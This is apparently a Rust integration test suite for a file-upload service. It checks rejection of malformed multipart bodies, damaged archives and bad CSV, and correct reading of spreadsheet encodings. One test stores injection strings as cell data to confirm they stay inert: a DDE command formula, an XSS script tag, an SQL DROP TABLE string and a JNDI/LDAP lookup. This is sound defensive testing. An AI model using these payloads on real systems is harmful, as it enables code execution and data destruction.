//! Uploads that are no upload, and files that are no table: each says what to do, and none leaves a
//! table or a file behind.

use std::fmt::Write as _;

use reqwest::{Method, StatusCode, multipart};
use serde_json::json;

use crate::{
    checks::{self, first_error, holds_nothing, refused},
    raw,
    server::{Answer, Person, Server},
};

async fn upload(server: &Server, person: &Person, content: Vec<u8>) -> Answer {
    let part = multipart::Part::bytes(content).file_name("file.csv");
    let request = server.request(Method::POST, "/uploads").bearer_auth(&person.token);
    Answer::of(request.multipart(multipart::Form::new().part("file", part)).send().await.unwrap())
        .await
}

#[tokio::test]
async fn multipart_bodies_that_are_none_leave_nothing() {
    let server = Server::start().await;
    let owner = server.sign_up("owner").await;
    let field = |name: &str| {
        format!(
            "--b\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"f.csv\"\r\n\r\na,b\n1,2\n\r\n"
        )
    };
    let with_boundary = "multipart/form-data; boundary=b";
    let whole = format!("{}--b--\r\n", field("file"));
    for (what, kind, body, status, code) in [
        ("no boundary", "multipart/form-data", whole.clone(), 400, "bad_request"),
        ("an empty boundary", "multipart/form-data; boundary=", whole.clone(), 400, "bad_request"),
        ("another boundary", "multipart/form-data; boundary=c", whole.clone(), 400, "bad_request"),
        ("nothing", with_boundary, String::new(), 400, "bad_request"),
        ("garbage", with_boundary, "a,b\n1,2\n".repeat(1000), 400, "bad_request"),
        ("no field", with_boundary, "--b--\r\n".to_owned(), 422, "invalid"),
        (
            "cut off in the head",
            with_boundary,
            "--b\r\nContent-Dispo".to_owned(),
            400,
            "bad_request",
        ),
        ("cut off in the file", with_boundary, field("file"), 400, "bad_request"),
        (
            "cut off in a row",
            with_boundary,
            whole[..whole.len() - 20].to_owned(),
            400,
            "bad_request",
        ),
        (
            "no file",
            with_boundary,
            "--b\r\nContent-Disposition: form-data; name=\"table\"\r\n\r\nx\r\n--b--\r\n"
                .to_owned(),
            422,
            "invalid",
        ),
        ("another field", with_boundary, format!("{}{whole}", field("document")), 422, "invalid"),
        (
            "a field without a name",
            with_boundary,
            format!("--b\r\nContent-Type: text/csv\r\n\r\na\n1\n\r\n{whole}"),
            422,
            "invalid",
        ),
        ("two files", with_boundary, format!("{}{whole}", field("file")), 422, "invalid"),
        (
            "two tables",
            with_boundary,
            format!(
                "{0}{0}{whole}",
                "--b\r\nContent-Disposition: form-data; name=\"table\"\r\n\r\nx\r\n"
            ),
            422,
            "invalid",
        ),
    ] {
        let headers = format!("Authorization: Bearer {}\r\nContent-Type: {kind}\r\n", owner.token);
        let answer = raw::send(&server, "POST /uploads", headers.as_bytes(), body.as_bytes()).await;
        assert_eq!(
            (answer.status.as_u16(), answer.code()),
            (status, code),
            "{what}: {}",
            answer.text
        );
        refused(&answer, status, code);
        holds_nothing(&server, &owner).await;
    }
}

#[tokio::test]
async fn a_line_that_breaks_during_an_upload_leaves_nothing() {
    let server = Server::start().await;
    let owner = server.sign_up("owner").await;
    let head = format!(
        "POST /uploads HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {}\r\nContent-Length: 100000\r\n\
         Content-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\nContent-Disposition: form-data; \
         name=\"file\"; filename=\"f.csv\"\r\n\r\na,b\n1,2\n",
        owner.token
    );
    let address = server.url.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    tokio::io::AsyncWriteExt::write_all(&mut stream, head.as_bytes()).await.unwrap();
    let spool = server.app.config.data_dir.join("spool");
    for _ in 0..200 {
        if checks::files_under(&spool) == 1 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    assert_eq!(checks::files_under(&spool), 1, "the upload has begun");
    drop(stream);
    for _ in 0..200 {
        if checks::files_under(&spool) == 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    holds_nothing(&server, &owner).await;
}

fn utf_16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A gzip member or a ZIP entry's start, followed by what would unpack to very much.
fn bomb(start: &[u8]) -> Vec<u8> {
    [start, &[0; 4096]].concat()
}

#[tokio::test]
async fn files_that_are_no_table_say_why_and_leave_nothing() {
    let server = Server::start().await;
    let owner = server.sign_up("owner").await;
    let wide = |count: usize| (0..count).map(|at| format!("c{at}")).collect::<Vec<_>>().join(",");
    let invalid = |reason| (422, "unreadable_file", reason);
    let unsupported = (415, "unsupported_media_type", "");
    for (what, content, (status, code, reason), says) in [
        ("nothing", vec![], invalid("csv_empty"), "empty"),
        ("blank lines", b"\n\r\n\n".to_vec(), invalid("csv_empty"), "empty"),
        ("only a header", b"a,b\n".to_vec(), invalid("csv_empty"), "no rows"),
        ("a short row", b"a,b\n1,2\n3\n".to_vec(), invalid("csv_ragged_row"), "Line 3"),
        ("a long row", b"a,b\n1,2\n3,4,5\n".to_vec(), invalid("csv_ragged_row"), "Line 3"),
        ("a name twice", b"a,b,A\n1,2,3\n".to_vec(), invalid("csv_duplicate_header"), "A"),
        ("no name", b"a,,c\n1,2,3\n".to_vec(), invalid("csv_empty_header"), "column 2"),
        ("an open quote", b"a,b\n1,\"2\n3,4\n".to_vec(), invalid("csv_open_quote"), "line 2"),
        ("text after a quote", b"a,b\n1,\"2\"x\n".to_vec(), invalid("csv_stray_quote"), "Line 2"),
        (
            "10,000 columns",
            format!("{0}\n{0}\n", wide(10_000)).into_bytes(),
            invalid("csv_too_many_columns"),
            "10000",
        ),
        (
            "a huge field",
            format!("a,b\n1,{}\n", "x".repeat(2 << 20)).into_bytes(),
            invalid("csv_field_too_large"),
            "Line 2",
        ),
        ("no archive", bomb(b"PK\x03\x04\x14\x00\x06\x00"), invalid("archive_damaged"), "damaged"),
        (
            "no gzip",
            bomb(b"\x1f\x8b\x08\x00\x00\x00\x00\x00"),
            invalid("archive_damaged"),
            "damaged",
        ),
        (
            "half of an old workbook",
            bomb(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
            invalid("workbook_damaged"),
            "damaged",
        ),
        ("a PDF", b"%PDF-1.7\n".to_vec(), unsupported, "Parquet, SQLite, and ZIP"),
        ("a web page", b"<!DOCTYPE html><html></html>".to_vec(), unsupported, "web page"),
        ("half of JSON", b"{\"a\": 1".to_vec(), invalid("json_syntax"), "Line 1"),
        ("JSON of nothing", b"[]".to_vec(), invalid("json_empty"), "no records"),
        (
            "half of Parquet",
            b"PAR1\x15\x04\x15\x00".to_vec(),
            invalid("parquet_damaged"),
            "Parquet",
        ),
        (
            "half of a database",
            b"SQLite format 3\0\x10\0".to_vec(),
            invalid("sqlite_damaged"),
            "SQLite",
        ),
    ] {
        let answer = upload(&server, &owner, content).await;
        assert_eq!(
            (answer.status.as_u16(), answer.code()),
            (status, code),
            "{what}: {}",
            answer.text
        );
        refused(&answer, status, code);
        let detail = answer.body["detail"].as_str().unwrap();
        assert!(detail.contains(says), "{what}: {detail}");
        if !reason.is_empty() {
            assert_eq!(first_error(&answer), ("body.file".to_owned(), reason.to_owned()), "{what}");
        }
        holds_nothing(&server, &owner).await;
    }
}

#[tokio::test]
async fn bytes_that_are_no_text_never_become_a_table() {
    let server = Server::start().await;
    let owner = server.sign_up("owner").await;
    let mut state = 1_u64;
    let noise: Vec<u8> = std::iter::repeat_with(|| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        state.to_be_bytes()[0]
    })
    .take(5000)
    .collect();
    for (what, content) in [
        ("NUL bytes in a cell", b"a,b\n1,x\0y\n".to_vec()),
        ("NUL bytes in the header", b"a\0,b\n1,2\n".to_vec()),
        ("only NUL bytes", vec![0; 1000]),
        ("noise", noise),
        ("half of a UTF-16 character", [&b"\xff\xfe"[..], &utf_16("a,b\n1,2\n"), b"\x41"].concat()),
        (
            "half of a surrogate pair",
            [&b"\xff\xfe"[..], &utf_16("a,b\n1,2\n"), b"\x00\xd8\x0a\x00"].concat(),
        ),
    ] {
        let answer = upload(&server, &owner, content).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{what}: {}", answer.text);
        refused(&answer, 422, "unreadable_file");
        assert!(first_error(&answer).1.starts_with("csv_"), "{what}: {}", answer.text);
        holds_nothing(&server, &owner).await;
    }
}

#[tokio::test]
async fn texts_in_the_encodings_of_spreadsheets_are_read() {
    let server = Server::start().await;
    let owner = server.sign_up("owner").await;
    let text = "ort,zahl\nKöln,1\nMünchen,2\n";
    let swapped = || text.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>();
    let latin = text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
    for (what, content) in [
        ("UTF-8", text.as_bytes().to_vec()),
        ("UTF-8 with a mark", [b"\xef\xbb\xbf", text.as_bytes()].concat()),
        ("UTF-16, little end first", [&b"\xff\xfe"[..], &utf_16(text)].concat()),
        ("UTF-16, big end first", [&b"\xfe\xff"[..], &swapped()].concat()),
        ("Windows-1252", latin),
        ("semicolons", text.replace(',', ";").into_bytes()),
        ("tabs and CRLF", text.replace(',', "\t").replace('\n', "\r\n").into_bytes()),
        ("quotes", b"\"ort\",\"zahl\"\n\"K\xc3\xb6ln\",\"1\"\n\"M\xc3\xbcnchen\",\"2\"".to_vec()),
    ] {
        let answer = upload(&server, &owner, content).await;
        assert_eq!(answer.status, StatusCode::CREATED, "{what}: {}", answer.text);
        let table = server.get(&owner, "/tables/file").await;
        assert_eq!(table.body["sample"]["rows"], json!([["Köln", 1], ["München", 2]]), "{what}");
    }
}

#[tokio::test]
async fn a_formula_is_a_text_like_any_other() {
    let server = Server::start().await;
    let owner = server.sign_up("owner").await;
    let cells = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "=HYPERLINK(\"\"http://x\"\")",
        "<script>alert(1)</script>",
        "'; DROP TABLE users; --",
        "${jndi:ldap://x}",
    ];
    let mut content = String::from("=1+1,n\n");
    for cell in cells {
        writeln!(content, "\"{cell}\",1").unwrap();
    }
    let answer = upload(&server, &owner, content.into_bytes()).await;
    assert_eq!(answer.status, StatusCode::CREATED, "{}", answer.text);
    let table = server.get(&owner, "/tables/file").await;
    assert_eq!(table.body["schema"][0]["label"], "=1+1");
    let rows = table.body["sample"]["rows"].as_array().unwrap();
    for (row, cell) in rows.iter().zip(cells) {
        assert_eq!(row[0], cell.replace("\"\"", "\""));
    }
    assert_eq!(table.header("content-type"), "application/json");
    assert_eq!(table.header("x-content-type-options"), "nosniff");
}

#[tokio::test]
async fn a_table_as_wide_as_allowed_is_read_and_asked() {
    let server = Server::start().await;
    let owner = server.sign_up("owner").await;
    let header: Vec<String> = (0..1000).map(|at| format!("column number {at}")).collect();
    let row: Vec<String> = (0..1000).map(|at: u32| at.to_string()).collect();
    let content = format!("{}\n{}\n", header.join(","), row.join(","));
    let answer = upload(&server, &owner, content.into_bytes()).await;
    server.loaded(&owner, &answer).await;
    let table = server.get(&owner, "/tables/file").await;
    assert_eq!(table.body["schema"].as_array().unwrap().len(), 1000);
    assert_eq!(table.body["sample"]["rows"][0][999], 999);
    let count = server.ask(&owner, "how many rows").await;
    assert_eq!(checks::rows(&count), [["1"]], "{}", count.text);
}
